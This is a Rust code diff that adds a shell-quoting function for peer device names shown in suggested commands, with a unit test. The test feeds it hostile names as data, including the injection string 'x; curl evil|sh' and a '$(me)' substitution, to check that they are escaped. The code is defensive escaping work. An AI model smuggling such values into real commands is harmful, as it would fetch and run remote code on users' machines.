@@ -93,6 +93,16 @@ pub(crate) fn countdown(seconds: u64) -> String {
     format!("{}:{:02}", seconds / 60, seconds % 60)
 }
 
+/// A name as one word of a command that is suggested: names are chosen by others.
+pub(crate) fn quoted(name: &str) -> String {
+    let plain = |b: u8| b.is_ascii_alphanumeric() || b"._-".contains(&b);
+    if name.bytes().all(plain) && !name.is_empty() && !name.starts_with('-') {
+        return name.to_owned();
+    }
+    let dashes = if name.starts_with('-') { "-- " } else { "" };
+    format!("{dashes}'{}'", name.replace('\'', "'\\''"))
+}
+
 /// Text of a peer, safe to print.
 pub(crate) fn clean(text: &str) -> String {
     clean_text(text, 256)
@@ -190,10 +200,7 @@ mod tests {
         let devices = [device("phone-15", 2 * 86_400), device("work-laptop", 6 * 3_600 + 59)];
         assert_eq!(
             device_table(&devices, false, 1_000_000),
-            [
-                "phone-15      paired 2d ago    active",
-                "work-laptop   paired 6h ago    active",
-            ]
+            ["phone-15      paired 2d ago    active", "work-laptop   paired 6h ago    active",]
         );
     }
 
@@ -218,6 +225,19 @@ mod tests {
             device_table(&[guest], false, 1_007_200),
             ["guest   paired 2h ago    expired    watch only"]
         );
+    }
+
+    #[test]
+    fn a_name_is_one_harmless_word_of_a_suggested_command() {
+        for (name, word) in [
+            ("desk-2", "desk-2"),
+            ("old laptop", "'old laptop'"),
+            ("x; curl evil|sh", "'x; curl evil|sh'"),
+            ("it's $(me)", "'it'\\''s $(me)'"),
+            ("-l", "-- '-l'"),
+        ] {
+            assert_eq!(quoted(name), word);
+        }
     }
 
     #[test]
